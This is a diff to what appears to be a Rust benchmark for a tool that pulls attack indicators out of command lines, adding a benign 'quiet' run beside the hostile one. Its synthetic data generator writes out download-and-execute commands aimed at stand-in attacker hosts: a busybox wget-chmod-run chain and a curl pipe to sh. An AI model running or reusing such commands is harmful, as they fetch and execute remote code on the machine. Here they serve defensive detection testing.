@@ -22,13 +22,13 @@ impl Random {
     }
 }
 
-/// What a busy fleet runs: one line in eight is an intruder's.
-fn lines(count: usize) -> Vec<String> {
+/// What a busy fleet runs; `hostile`: one line in eight is an intruder's, full of indicators.
+fn lines(count: usize, hostile: bool) -> Vec<String> {
     let mut random = Random(0x5eed);
     (0..count)
         .map(|_| {
             let (a, b, c) = (random.below(100_000), random.below(250), random.below(65_000));
-            match random.below(16) {
+            match if hostile { random.below(16) } else { 2 + random.below(14) } {
                 0 => format!("/bin/busybox wget -O /tmp/p{b} http://203.0.113.{b}/.y/p{a}; chmod +x /tmp/p{b}; /tmp/p{b} &"),
                 1 => format!("bash -c \"curl -fsSL https://cdn{a}.evil.example/i.sh?h={c} | sh\""),
                 2..=4 => format!(
@@ -55,7 +55,7 @@ fn main() {
         Some(path) => {
             String::from_utf8_lossy(&std::fs::read(path).expect("the named file")).lines().map(str::to_owned).collect()
         }
-        None => lines(200_000),
+        None => lines(200_000, true),
     };
     let bytes: usize = lines.iter().map(String::len).sum();
     let extractor = Extractor::new();
@@ -69,6 +69,14 @@ fn main() {
         }
     });
     println!("{} lines, {found} indicators", lines.len());
+    if file.is_none() {
+        let quiet = self::lines(200_000, false);
+        measure("quiet", quiet.iter().map(String::len).sum(), || {
+            for line in &quiet {
+                extractor.extract(black_box(line), &mut out);
+            }
+        });
+    }
     measure("deobfuscate", bytes, || {
         for line in &lines {
             black_box(ringleader_pipeline::extract::deobfuscate(black_box(line)));
@@ -94,7 +102,7 @@ fn main() {
 
 /// The best of several rounds, in time on the processor: other work on the machine does not count.
 fn measure(name: &str, bytes: usize, mut work: impl FnMut()) {
-    const NAMES: &[&str] = &["extract", "deobfuscate", "decoded", "template", "would_run"];
+    const NAMES: &[&str] = &["extract", "quiet", "deobfuscate", "decoded", "template", "would_run"];
     if std::env::args().any(|it| NAMES.contains(&it.as_str())) && !std::env::args().any(|it| it == name) {
         return;
     }
